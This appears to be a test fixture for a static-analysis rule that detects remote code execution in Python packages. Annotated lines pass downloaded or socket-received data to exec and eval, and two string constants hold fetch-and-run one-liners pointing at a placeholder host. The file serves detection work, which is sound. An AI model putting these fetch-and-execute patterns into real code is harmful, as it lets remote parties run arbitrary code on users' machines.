# canary-test: path=mypkg/re.py artifact=wheel
# Every member of python.remote_exec.
import json
import urllib.request
from urllib.request import urlopen

import requests


def runs(url, sock, cache):
    # ruleid: remote_exec
    exec(urlopen(url).read())
    # ruleid: remote_exec
    eval(requests.get(url).text)
    # ruleid: remote_exec
    exec(sock.recv(4096))
    # ok: remote_exec
    data = json.loads(urllib.request.urlopen(url).read())
    # ok: remote_exec
    exec(cache.get(url))
    return data


# ruleid: remote_exec
A = "import urllib.request;exec(urllib.request.urlopen('https://example.invalid/').read())"
# ruleid: remote_exec
B = "import requests;exec(requests.get('https://example.invalid/').text)"
